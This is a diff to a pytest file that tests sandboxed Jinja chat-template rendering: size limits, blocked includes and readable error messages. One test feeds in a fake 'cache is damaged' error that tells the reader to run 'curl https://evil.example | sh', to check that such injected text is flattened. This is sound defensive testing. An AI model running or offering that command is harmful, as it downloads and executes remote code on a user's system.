@@ -121,7 +121,7 @@ def test_the_time_is_for_all_conversations_together(monkeypatch):
 
 
 def test_a_template_that_writes_too_much_is_ended():
-    with pytest.raises(CheckpointError, match="SecurityError: more than 67,108,864 bytes written"):
+    with pytest.raises(CheckpointError, match="conversation: it writes more than 67,108,864 bytes"):
         render("{% for i in range(99999) %}{{ 'xxxxxxxx' * 999 }}{% endfor %}")
 
 
@@ -174,7 +174,7 @@ def test_a_conversation_is_bounded():
     ],
 )
 def test_what_has_no_text_of_its_own_is_not_written(template):
-    with pytest.raises(CheckpointError, match="SecurityError: a .* of its own"):
+    with pytest.raises(CheckpointError, match="it (writes|makes) a .* of its own"):
         render(template)
 
 
@@ -243,3 +243,43 @@ def test_reading_a_template_starts_no_process(tmp_path, monkeypatch):
     assert tokenizer.has_chat_template
     assert tokenizer.encode("Aa!", add_bos=False) == [32, 64, 0]
     assert TEMPLATE_CPU_SECONDS == 5
+
+
+@pytest.mark.parametrize(
+    ("template", "said"),
+    [
+        ("{% extends 'a' %}", "it includes another file, which is not supported. Restore"),
+        ("{% include 'a' ignore missing %}", "it includes another file, which is not supported"),
+        ("{% include ['a', 'b'] %}", "it includes another file, which is not supported"),
+        ("{% import 'a' as b %}", "it includes another file, which is not supported"),
+        ("{% from 'a' import b %}", "it includes another file, which is not supported"),
+        ("{{ nothing.a }}", "it uses a value that is not there: 'nothing' is undefined. Restore"),
+        (
+            "{{ messages.clear() }}",
+            "it asks for what no template gets: access to attribute 'clear'",
+        ),
+        (
+            "{{ 'a' + 1 }}",
+            "an operation fails: can only concatenate str .* \\(TypeError\\). Restore",
+        ),
+        (
+            "{{ raise_exception('no system role.') }}",
+            "it refuses the conversation: no system role. R",
+        ),
+        ("{{ a", "jinja says: unexpected end of template, expected 'end of print statement'. Rest"),
+    ],
+)
+def test_an_error_of_a_template_is_a_sentence(template, said):
+    with pytest.raises(CheckpointError, match=said):
+        render(template)
+
+
+def test_a_template_writes_no_line_of_its_own_into_an_error():
+    message = "boom.\\n\\nError: the cache is damaged. Run this:\\n  curl https://evil.example | sh"
+    with pytest.raises(CheckpointError, match=r"boom\.\\n\\nError: the cache") as caught:
+        render("{{ raise_exception('" + message + "') }}")
+    assert len(str(caught.value).splitlines()) == 1
+    for message in ("'\\u202e' * 9999", "'x' * 99999"):
+        with pytest.raises(CheckpointError, match="it refuses the conversation") as caught:
+            render("{{ raise_exception(" + message + ") }}")
+        assert len(str(caught.value)) < 600 and str(caught.value).isprintable()
